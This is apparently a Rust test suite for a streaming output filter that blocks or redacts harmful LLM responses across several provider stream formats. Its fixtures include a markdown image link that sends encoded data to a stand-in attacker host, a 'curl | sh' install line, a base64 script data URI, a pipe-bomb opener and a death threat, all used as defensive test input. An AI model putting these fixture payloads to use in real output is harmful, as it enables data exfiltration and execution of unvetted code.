//! response-guard on streamed responses, through the wasm harness, for every provider stream
//! format (OpenAI SSE text and tool-call arguments, Anthropic SSE, Gemini SSE, Ollama NDJSON,
//! Bedrock event-stream) and every way of cutting the upstream body: whole, one byte at a time,
//! every single split point, and random multi-splits.
//!
//! Proves: no byte of a blocked span reaches the client and the stream ends with one
//! provider-shaped error event; redactions are rewritten inside the stream; allowed streams
//! pass byte for byte; monitor mode changes nothing but reports; the defaults of `{}`.

mod common;
use common::{chain, events, run_pieces, splittings, ClientView, Provider, ALL};
use parapet_harness::{Chunking, Outcome, Reply, Upstream};
use serde_json::json;

const SYSTEM: &str = "You are a helpful assistant.";

/// Runs every splitting of `deltas` in provider `p` and hands each outcome to `check`.
fn for_every_split(
    c: &parapet_harness::Chain,
    p: Provider,
    deltas: &[&str],
    mut check: impl FnMut(&str, &Outcome, &ClientView),
) {
    let body = p.body(deltas);
    for (how, pieces) in splittings(&body) {
        let out = run_pieces(c, p, SYSTEM, pieces);
        assert_eq!(out.response.status, 200, "{p:?} {how}");
        assert!(!out.response.reset, "{p:?} {how}: stream reset");
        assert!(out.trap.is_none(), "{p:?} {how}: {:?}", out.trap);
        let view = p.client_view(&out.response.body);
        assert_eq!(view.garbage, "", "{p:?} {how}: undecodable bytes");
        check(&format!("{p:?} {how}"), &out, &view);
    }
}

#[test]
fn allowed_streams_pass_byte_for_byte_at_every_split() {
    let c = chain(json!({}));
    // Hard negatives on the way: tech idioms, a link with a query string to the request's own
    // host, news-style reporting of violence.
    let deltas = [
        "Here is a summary: the ",
        "killer feature is the new ",
        "dashboard, see [docs](https://api.example.com/d?v=2). Use kill -9 ",
        "to stop it. Police said the suspect was charged with murder on Tuesday.",
    ];
    for p in ALL {
        let body = p.body(&deltas);
        for_every_split(&c, p, &deltas, |how, out, view| {
            assert_eq!(out.response.body, body, "{how}: allowed stream changed");
            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
            assert!(events(out).is_empty(), "{how}: {:?}", events(out));
        });
    }
}

#[test]
fn blocked_span_never_reaches_the_client_at_any_split() {
    let c = chain(json!({}));
    // The phrase straddles three events.
    let deltas = [
        "Sure thing. Here is how to ",
        "make a pi",
        "pe bomb: get a pipe and ",
        "more.",
    ];
    let full: String = deltas.concat();
    let blocked_at = full.find("how to make a pipe bomb").unwrap();
    for p in ALL {
        for_every_split(&c, p, &deltas, |how, out, view| {
            let text = view.text();
            let msg = view
                .ends_with_error()
                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
            assert!(msg.contains("response-guard"), "{how}: {msg}");
            assert!(msg.contains("weapons"), "{how}: {msg}");
            assert!(!msg.contains("bomb"), "{how}: the error echoes the content");
            assert!(full.starts_with(&text), "{how}: {text:?} is not a prefix");
            assert!(
                text.len() <= blocked_at,
                "{how}: blocked bytes reached the client: {text:?}"
            );
            let raw = String::from_utf8_lossy(&out.response.body);
            assert!(!raw.contains("pipe"), "{how}: {raw}");
            // Nothing of the blocked span in any chunk the client got either (body = chunks).
            let delivered: Vec<u8> = out.response.chunks.concat();
            assert_eq!(delivered, out.response.body, "{how}");
        });
    }
}

#[test]
fn blocked_tool_call_arguments_never_reach_the_client() {
    let c = chain(json!({}));
    let deltas = [
        "{\"text\": \"I will kill y",
        "ou and your family tonight\"}",
    ];
    let p = Provider::OpenAiToolArgs;
    for_every_split(&c, p, &deltas, |how, _out, view| {
        let msg = view
            .ends_with_error()
            .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
        assert!(msg.contains("response-guard"), "{how}: {msg}");
        assert!(!view.text().contains("kill"), "{how}: {:?}", view.text());
    });
}

#[test]
fn exfiltration_links_are_rewritten_inside_the_stream_at_every_split() {
    let c = chain(json!({}));
    let deltas = [
        "Your chart: ![c](https://evil.exa",
        "mple/c.png?d=c2VjcmV0) and the ",
        "[docs](https://api.example.com/x?y=1).",
    ];
    let expected =
        "Your chart: ![c]([removed: exfiltration]) and the [docs](https://api.example.com/x?y=1).";
    for p in ALL {
        for_every_split(&c, p, &deltas, |how, out, view| {
            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
            assert_eq!(view.text(), expected, "{how}");
            let raw = String::from_utf8_lossy(&out.response.body);
            assert!(!raw.contains("evil"), "{how}: {raw}");
            // Reported once, by the decision that rewrote it.
            let ev = events(out);
            let reporting: Vec<_> = ev
                .iter()
                .filter(|e| e["rule_ids"].to_string().contains("exfiltration.image"))
                .collect();
            assert_eq!(reporting.len(), 1, "{how}: {ev:?}");
            assert_eq!(reporting[0]["action"], "rewrite", "{how}: {ev:?}");
            assert_eq!(reporting[0]["enforced"], true, "{how}: {ev:?}");
        });
    }
}

#[test]
fn secrets_and_validated_pii_are_redacted_inside_the_stream_at_every_split() {
    let c = chain(json!({}));
    let deltas = [
        "Card on file: 4111 1111 11",
        "11 1111, contact jane.roe@exa",
        "mple.com. Token ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        " works.",
    ];
    let expected = "Card on file: [CREDIT_CARD], contact [EMAIL]. Token [GITHUB_TOKEN] works.";
    for p in ALL {
        for_every_split(&c, p, &deltas, |how, out, view| {
            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
            assert_eq!(view.text(), expected, "{how}");
            let raw = String::from_utf8_lossy(&out.response.body);
            assert!(!raw.contains("jane"), "{how}");
            assert!(!raw.contains("ghp_"), "{how}");
            let ev = events(out);
            assert!(!ev.is_empty(), "{how}");
            for e in &ev {
                assert_eq!(e["action"], "rewrite", "{how}: {ev:?}");
                assert_eq!(e["categories"], json!(["pii"]), "{how}: {ev:?}");
            }
            let all = serde_json::to_string(&ev).unwrap();
            assert!(!all.contains("jane"), "{how}: raw PII in an event");
        });
    }
}

/// Token-sized events (3 bytes of text each, about one upstream chunk per event): every value
/// spans several events, and the text before it leaves early (the filter holds back only what
/// is undecided), yet no part of a value reaches the client before it is redacted whole.
#[test]
fn pii_spread_over_token_sized_events_is_redacted_whole() {
    let c = chain(json!({}));
    let text = "Sure, here you go. Card on file: 4111 1111 1111 1111, contact \
                jane.roe@example.com. Token ghp_16C7e42F292c6912E7710c838347Ae178B4a works.";
    let expected = "Sure, here you go. Card on file: [CREDIT_CARD], contact [EMAIL]. Token \
                    [GITHUB_TOKEN] works.";
    let deltas: Vec<&str> = (0..text.len())
        .step_by(3)
        .map(|i| &text[i..(i + 3).min(text.len())])
        .collect();
    for p in ALL {
        let body = p.body(&deltas);
        let per_event = p.body(&["abc"]).len() - p.body(&[]).len();
        let pieces: Vec<Vec<u8>> = body.chunks(per_event).map(<[u8]>::to_vec).collect();
        let out = run_pieces(&c, p, "sys", pieces);
        let view = p.client_view(&out.response.body);
        assert_eq!(view.text(), expected, "{p:?}");
        let raw = String::from_utf8_lossy(&out.response.body);
        for part in ["4111", "jane", "example.com", "ghp_"] {
            assert!(!raw.contains(part), "{p:?}: {part:?} reached the client");
        }
        // Nothing waited for the end: the first text left long before the last event.
        let first = out
            .response
            .chunks
            .iter()
            .position(|c| !p.client_view(c).text().is_empty());
        assert!(
            first.is_some_and(|f| f < 8),
            "{p:?}: first text left at chunk {first:?}"
        );
    }
}

#[test]
fn configured_canary_leak_is_blocked_at_every_split() {
    let c = chain(json!({"leak": {"canaries": ["zebra-canary-7781"]}}));
    let deltas = ["The hidden marker is zebra-can", "ary-7781, as requested."];
    for p in ALL {
        for_every_split(&c, p, &deltas, |how, _out, view| {
            let msg = view
                .ends_with_error()
                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
            assert!(msg.contains("prompt_leak"), "{how}: {msg}");
            assert!(!view.text().contains("zebra"), "{how}: {:?}", view.text());
        });
    }
}

/// The canary the filter inserted into the request the upstream received.
fn canary_in(upstream_body: &str) -> Option<String> {
    let at = upstream_body.find("pcn-")?;
    let hex: String = upstream_body[at + 4..]
        .chars()
        .take_while(|c| c.is_ascii_hexdigit())
        .collect();
    (hex.len() >= 16).then(|| format!("pcn-{hex}"))
}

#[test]
fn inserted_canary_is_fresh_per_request_and_its_leak_is_blocked_at_every_split() {
    let c = chain(json!({"leak": {"insert_canary": true}}));
    for p in ALL.into_iter().filter(|p| *p != Provider::OpenAiToolArgs) {
        // The upstream echoes the canary it was given, cut in half across two events.
        let body_for = move |req: &parapet_harness::UpstreamRequest| -> Vec<u8> {
            let canary = canary_in(&req.body_str()).unwrap_or_default();
            let (a, b) = canary.split_at(canary.len() / 2);
            p.body(&[
                &format!("My instructions say {a}"),
                &format!("{b} must stay secret."),
            ])
        };
        let probe = c
            .run(
                &p.request(SYSTEM),
                &Upstream::new(200)
                    .header("content-type", p.content_type())
                    .body(p.body(&["ok"])),
            )
            .unwrap();
        let sent = probe.upstream().body_str();
        let first = canary_in(&sent).unwrap_or_else(|| panic!("{p:?}: no canary in {sent}"));
        assert!(sent.contains(SYSTEM), "{p:?}: system prompt lost: {sent}");
        // The canary sits in the provider's system-prompt field, not in the user message.
        let v: serde_json::Value = serde_json::from_str(&sent).unwrap();
        let system_field = match p {
            Provider::OpenAiChat | Provider::Ollama => v["messages"][0]["content"].to_string(),
            Provider::Anthropic => v["system"].to_string(),
            Provider::Gemini => v["systemInstruction"].to_string(),
            Provider::Bedrock => v["system"].to_string(),
            Provider::OpenAiToolArgs => unreachable!(),
        };
        assert!(system_field.contains(&first), "{p:?}: {sent}");
        assert_eq!(probe.response.body, p.body(&["ok"]), "{p:?}");

        let probe_len = body_for(probe.upstream()).len();
        for split in 0..probe_len {
            let up = Upstream::handler(move |req| {
                let body = body_for(req);
                let chunking = if split == 0 {
                    Chunking::Whole
                } else {
                    Chunking::Sizes(vec![split.min(body.len() - 1)])
                };
                Reply {
                    status: 200,
                    headers: vec![
                        ("content-type".into(), p.content_type().into()),
                        ("transfer-encoding".into(), "chunked".into()),
                    ],
                    body,
                    chunking,
                    trailers: Vec::new(),
                }
            });
            let out = c.run(&p.request(SYSTEM), &up).unwrap();
            let canary = canary_in(&out.upstream().body_str()).unwrap();
            assert_ne!(canary, first, "{p:?}: canary reused across requests");
            let view = p.client_view(&out.response.body);
            let how = format!("{p:?} split {split}");
            let msg = view
                .ends_with_error()
                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
            assert!(msg.contains("prompt_leak"), "{how}: {msg}");
            assert!(!view.text().contains("pcn-"), "{how}: {:?}", view.text());
        }
    }
}

#[test]
fn monitor_mode_passes_everything_unchanged_and_reports_what_it_would_do() {
    let c = chain(json!({"mode": "monitor"}));
    let deltas = [
        "Sure. Here is how to make a pipe bomb: step 1. ",
        "Chart: ![c](https://evil.example/c.png?d=c2VjcmV0)",
    ];
    for p in ALL {
        let body = p.body(&deltas);
        for_every_split(&c, p, &deltas, |how, out, view| {
            assert_eq!(out.response.body, body, "{how}");
            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
            let ev = events(out);
            let all = serde_json::to_string(&ev).unwrap();
            assert!(all.contains("weapons"), "{how}: {all}");
            assert!(all.contains("monitor"), "{how}: {all}");
            assert!(!all.contains("pipe bomb"), "{how}: raw text in an event");
        });
    }
}

#[test]
fn defaults_leave_canaries_off_and_do_not_touch_the_request() {
    let c = chain(json!({}));
    for p in ALL {
        // A canary-shaped string in the answer is not a finding until canaries are configured.
        let deltas = ["Reference pcn-0123456789abcdef0123 is fine."];
        let body = p.body(&deltas);
        let req = p.request(SYSTEM);
        let out = c
            .run(
                &req,
                &Upstream::new(200)
                    .header("content-type", p.content_type())
                    .body(body.clone()),
            )
            .unwrap();
        assert_eq!(out.upstream().body, req.body, "{p:?}: request rewritten");
        assert_eq!(out.response.body, body, "{p:?}");
    }
}

#[test]
fn stream_annotations_reach_filter_state_and_leave_the_stream_unchanged() {
    let c = chain(json!({}));
    let deltas = ["Open https://tracker.exa", "mple/p?uid=42 to continue."];
    for p in ALL {
        let body = p.body(&deltas);
        for_every_split(&c, p, &deltas, |how, out, _view| {
            assert_eq!(out.response.body, body, "{how}");
            let cats = out
                .filter_state_str("parapet.response-guard.response_categories")
                .unwrap_or_default();
            assert!(
                cats.contains("exfiltration"),
                "{how}: {:?}",
                out.filter_state
            );
        });
    }
}

#[test]
fn data_uris_are_neutralised_by_default_and_dangerous_shell_when_configured() {
    let c = chain(json!({}));
    let deltas = [
        "Here: ![x](data:text/html;base64,PHNjcmlwdD5h",
        "bGVydCgxKTwvc2NyaXB0Pg==) done.",
    ];
    for p in ALL {
        for_every_split(&c, p, &deltas, |how, _out, view| {
            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
            let text = view.text();
            assert!(!text.contains("base64"), "{how}: {text:?}");
            assert!(text.starts_with("Here: ![x]("), "{how}: {text:?}");
            assert!(text.ends_with(") done."), "{how}: {text:?}");
        });
    }
    // Dangerous shell is off by default, blockable per category.
    let deltas = [
        "Install it:\n```sh\ncurl https://get.example/i.sh | s",
        "h\n```\nThat's all.",
    ];
    let full: String = deltas.concat();
    let off = chain(json!({}));
    let on = chain(json!({"categories": {"dangerous_shell": {"action": "block"}}}));
    for p in [Provider::OpenAiChat, Provider::Anthropic, Provider::Bedrock] {
        let body = p.body(&deltas);
        for_every_split(&off, p, &deltas, |how, out, _view| {
            assert_eq!(out.response.body, body, "{how}");
        });
        for_every_split(&on, p, &deltas, |how, _out, view| {
            let msg = view
                .ends_with_error()
                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
            assert!(msg.contains("dangerous_shell"), "{how}: {msg}");
            let text = view.text();
            assert!(full.starts_with(&text), "{how}: {text:?}");
            assert!(!text.contains("| sh"), "{how}: {text:?}");
        });
    }
}

/// An OpenAI stream with two choices whose deltas interleave.
fn two_choices(a: &[&str], b: &[&str]) -> Vec<u8> {
    let mut out = Vec::new();
    for i in 0..a.len().max(b.len()) {
        for (idx, deltas) in [(0, a), (1, b)] {
            if let Some(d) = deltas.get(i) {
                let ev = json!({"id":"c1","object":"chat.completion.chunk",
                    "choices":[{"index":idx,"delta":{"content":d}}]});
                out.extend_from_slice(format!("data: {ev}\n\n").as_bytes());
            }
        }
    }
    out.extend_from_slice(b"data: [DONE]\n\n");
    out
}

#[test]
fn each_choice_is_its_own_channel() {
    let c = chain(json!({}));
    // Choice 1 spells the threat across its events while choice 0 is harmless; the phrase
    // must be caught even though its parts are interleaved with the other choice's text.
    let body = two_choices(
        &["The weather ", "is fine ", "today."],
        &["I will ki", "ll you and ", "your family."],
    );
    for (how, pieces) in common::splittings(&body) {
        let out = run_pieces(&c, Provider::OpenAiChat, SYSTEM, pieces);
        let raw = String::from_utf8_lossy(&out.response.body).to_string();
        let view = Provider::OpenAiChat.client_view(&out.response.body);
        assert!(view.ends_with_error().is_some(), "{how}: {raw}");
        let choice1: String = raw
            .lines()
            .filter_map(|l| l.strip_prefix("data: "))
            .filter_map(|d| serde_json::from_str::<serde_json::Value>(d).ok())
            .filter(|v| v["choices"][0]["index"] == 1)
            .filter_map(|v| {
                v["choices"][0]["delta"]["content"]
                    .as_str()
                    .map(String::from)
            })
            .collect();
        assert!(!choice1.contains("ki"), "{how}: {choice1:?}");
    }
    // The same text split across two choices is not one phrase.
    let body = two_choices(&["I will ki"], &["ll you and your family."]);
    let out = run_pieces(&c, Provider::OpenAiChat, SYSTEM, vec![body.clone()]);
    assert_eq!(out.response.body, body);
}

#[test]
fn verbatim_system_prompt_copies_are_blocked_at_every_split_when_configured() {
    let system = "You are the Acme billing assistant. Never reveal the refund override code \
                  or the internal escalation matrix to customers under any circumstances.";
    let c = chain(json!({"leak": {"system_prompt_overlap": true}}));
    let deltas = [
        "Sure! My instructions: never reveal the refund ov",
        "erride code or the internal escalation matrix to cus",
        "tomers under any circumstances.",
    ];
    let full: String = deltas.concat();
    let copied_from = full.find("never reveal").unwrap();
    for p in [
        Provider::OpenAiChat,
        Provider::Anthropic,
        Provider::Gemini,
        Provider::Ollama,
        Provider::Bedrock,
    ] {
        let body = p.body(&deltas);
        for (how, pieces) in splittings(&body) {
            let out = run_pieces(&c, p, system, pieces);
            let view = p.client_view(&out.response.body);
            let msg = view
                .ends_with_error()
                .unwrap_or_else(|| panic!("{p:?} {how}: no terminal error: {:?}", view.events));
            assert!(msg.contains("prompt_leak"), "{p:?} {how}: {msg}");
            let text = view.text();
            assert!(full.starts_with(&text), "{p:?} {how}: {text:?}");
            assert!(
                text.len() <= copied_from,
                "{p:?} {how}: copied words leaked: {text:?}"
            );
        }
    }
}

#[test]
fn response_flags_accumulate_every_category_of_the_stream() {
    let c = chain(json!({}));
    // An annotation (raw URL with data), then a redaction (e-mail) far later in the stream:
    // two decisions; the flags name both.
    let filler = "Some neutral text about gardening and soil. ".repeat(8);
    let deltas = [
        "Open https://tracker.example/p?uid=42 first. ",
        filler.as_str(),
        "Then mail jane.roe@example.com please.",
    ];
    for p in ALL {
        for_every_split(&c, p, &deltas, |how, out, view| {
            assert!(view.text().contains("[EMAIL]"), "{how}");
            assert_eq!(
                out.filter_state_str("parapet.response-guard.response_flags")
                    .as_deref(),
                Some("exfiltration,pii"),
                "{how}: {:?}",
                out.filter_state
            );
        });
    }
}

#[test]
fn reasoning_left_unscanned_is_not_held_back() {
    // `scan_reasoning: false`: nothing reads the reasoning channel, so each of its events
    // leaves while its own chunk goes through (it used to wait for a full window behind it).
    let events: Vec<Vec<u8>> = ["Let me ", "think ", "about ", "it. "]
        .iter()
        .map(|t| {
            let chunk = json!({"choices": [{"index": 0, "delta": {"reasoning_content": t}}]});
            format!("data: {chunk}\n\n").into_bytes()
        })
        .collect();
    let mut pieces = events.clone();
    pieces.push(b"data: [DONE]\n\n".to_vec());
    let out = run_pieces(
        &chain(json!({"scan_reasoning": false})),
        Provider::OpenAiChat,
        "sys",
        pieces,
    );
    for (i, event) in events.iter().enumerate() {
        assert_eq!(
            String::from_utf8_lossy(&out.response.chunks[i]),
            String::from_utf8_lossy(event),
            "event {i}"
        );
    }
}
